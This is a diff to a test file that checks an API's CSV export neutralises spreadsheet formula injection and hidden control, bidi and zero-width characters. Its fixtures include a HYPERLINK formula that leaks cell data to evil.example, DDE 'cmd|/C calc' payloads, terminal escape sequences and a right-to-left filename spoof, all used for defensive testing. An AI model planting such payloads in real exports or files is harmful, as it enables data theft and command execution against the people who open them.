@@ -4,7 +4,7 @@
  * checked for tokens, commands and query values (RouteSuite).
  */
 import { beforeAll, describe, expect, test } from "bun:test";
-import { type IngestAnswer, isoAt, json, limits, type Page, parseCsv, type Presented, RouteSuite, type TestApp } from "./helpers.ts";
+import { type IngestAnswer, isoAt, Rng, json, limits, type Page, parseCsv, type Presented, RouteSuite, type TestApp } from "./helpers.ts";
 
 const suite = new RouteSuite();
 
@@ -224,7 +224,7 @@ describe("pagination and exports", () => {
 
   const COLUMNS = ["id", "time", "hostname", "serverIps", "luser", "suser", "terminal", "clientIp", "sessionId", "seq", "kind", "cwd", "exitStatus", "command", "commandB64", "durationMs"];
 
-  test("ndjson and csv exports hold every row exactly once; CSV parses back with commands intact", async () => {
+  test("ndjson and csv=raw exports hold every row exactly once; CSV parses back with commands intact", async () => {
     const t = await suite.newApp();
     const N = 2600; // more than two of the exporter's 1000-row pages, with equal timestamps across page ends
     const srcs = Array.from({ length: N }, (_, i) => {
@@ -257,7 +257,8 @@ describe("pagination and exports", () => {
       expect(res.headers.get("content-type")).toContain("text/csv");
       return parseCsv(await res.text());
     };
-    for (const res of [await t.get("/api/v1/commands", { Accept: "text/csv" }), await t.get("/api/v1/commands?format=csv", { Accept: "application/json" })]) {
+    // csv=raw: every character as stored (the safe default is checked in "CSV exports are safe to open in a spreadsheet").
+    for (const res of [await t.get("/api/v1/commands?csv=raw", { Accept: "text/csv" }), await t.get("/api/v1/commands?format=csv&csv=raw", { Accept: "application/json" })]) {
       const [header, ...rows] = await csv(res);
       expect(header).toEqual(COLUMNS);
       expect(rows.length).toBe(N);
@@ -294,6 +295,73 @@ describe("pagination and exports", () => {
     expect(csvQ.length).toBe(srcs.filter((s) => typeof s.command === "string" && s.command.includes("\"hi\"")).length);
     // A bad cursor is refused before the stream starts.
     expect((await t.get("/api/v1/commands?format=csv&cursor=zzz")).status).toBe(400);
+  });
+
+  test("CSV exports are safe to open in a spreadsheet: formula starts get a ' prefix, control, bidi and zero-width characters are shown; csv=raw and NDJSON stay exact", async () => {
+    const t = await suite.newApp();
+    // [stored command, the cell a safe export writes]
+    const cases: [string, string][] = [
+      ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"],
+      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+      ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+      ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+      ["\t=1+1", "'\t=1+1"],
+      ["\r=1+1", "'\u240d=1+1"],
+      ["  =1+1", "'  =1+1"],
+      ["\uff1d1+1", "'\uff1d1+1"],
+      ["\u001b]0;pwned\u0007echo \u001b[31mred\u001b[0m", "\u241b]0;pwned\u2407echo \u241b[31mred\u241b[0m"],
+      ["rm -rf /tmp/\u202etxt.exe", "rm -rf /tmp/<U+202E>txt.exe"],
+      ["ls\u200b -la\u009b2J\u007f", "ls<U+200B> -la<U+009B>2J\u2421"],
+      ["for i in 1 2; do\n\techo $i\ndone", "for i in 1 2; do\n\techo $i\ndone"],
+      ["echo a=b+c @home -x", "echo a=b+c @home -x"],
+      ["git log --oneline", "git log --oneline"],
+    ];
+    const recs = cases.map(([command], i) => suite.v2({ sessionId: "csv-safe", seq: i, ctime: isoAt(Date.UTC(2024, 2, 1, 0, 0, i), 0), command, cwd: i === 8 ? "/tmp/\u001b[2J=x" : "/root" }));
+    expect((await json<IngestAnswer>(await t.post(recs))).rejected).toEqual([]);
+    const cells = async (query: string) => {
+      const res = await t.get(`/api/v1/commands?session=csv-safe&${query}`);
+      expect(res.status).toBe(200);
+      const [header, ...rows] = parseCsv(await res.text());
+      const at = (c: string) => header!.indexOf(c);
+      return rows.reverse().map((r) => ({ command: r[at("command")]!, cwd: r[at("cwd")]! }));
+    };
+    const safe = await cells("format=csv");
+    expect(safe.map((c) => c.command)).toEqual(cases.map(([, want]) => want));
+    expect(safe[8]!.cwd).toBe("/tmp/\u241b[2J=x");
+    expect(await cells("format=csv&csv=safe")).toEqual(safe);
+    const raw = await cells("format=csv&csv=raw");
+    expect(raw.map((c) => c.command)).toEqual(cases.map(([stored]) => stored));
+    expect(raw[8]!.cwd).toBe("/tmp/\u001b[2J=x");
+    const nd = (await (await t.get("/api/v1/commands?session=csv-safe&format=ndjson")).text()).trim().split("\n").map((l) => JSON.parse(l) as Presented).reverse();
+    expect(nd.map((r) => r.command)).toEqual(cases.map(([stored]) => stored));
+    // csv= means nothing outside a CSV export: named, not ignored.
+    for (const q of ["csv=raw", "format=ndjson&csv=raw", "format=json&csv=safe"]) {
+      const res = await t.get(`/api/v1/commands?${q}`);
+      expect({ q, status: res.status }).toEqual({ q, status: 400 });
+      expect((await json<{ msg: string }>(res)).msg).toContain("csv");
+    }
+    expect((await t.get("/api/v1/commands?format=csv&csv=exact")).status).toBe(400);
+  });
+
+  test("fuzz: a safe CSV cell never starts a formula nor holds a hidden character, and csv=raw gives the stored text back", async () => {
+    const t = await suite.newApp();
+    const rng = new Rng(0x5afec5f);
+    const alphabet = ["=", "+", "-", "@", "\t", "\r", "\n", " ", "\u001b", "\u0000", "\u007f", "\u009b", "\u202e", "\u200b", "\ufeff", "\uff1d", "\"", ",", "a", "Z", "1", "你", "é", "'", "|"];
+    const commands = Array.from({ length: 400 }, () => Array.from({ length: rng.range(1, 12) }, () => rng.pick(alphabet)).join("") + "x");
+    const recs = commands.map((command, i) => suite.v2({ sessionId: "csv-fuzz", seq: i, ctime: isoAt(Date.UTC(2024, 3, 1, 0, 0, 0) + i * 1000, 0), command }));
+    const ans = await json<IngestAnswer>(await t.post(recs));
+    const accepted = new Set(commands.filter((_, i) => !ans.rejected.some((r) => r.index === i)));
+    expect(accepted.size).toBeGreaterThan(300);
+    const column = async (query: string) => {
+      const [header, ...rows] = parseCsv(await (await t.get(`/api/v1/commands?session=csv-fuzz&format=csv&${query}`)).text());
+      return rows.map((r) => r[header!.indexOf("command")]!);
+    };
+    const raw = await column("csv=raw");
+    expect(new Set(raw)).toEqual(accepted);
+    for (const cell of await column("csv=safe")) {
+      expect({ cell, formula: /^[\t\r]|^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell) }).toEqual({ cell, formula: false });
+      expect({ cell, hidden: /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/u.test(cell) }).toEqual({ cell, hidden: false });
+    }
   });
 });
 
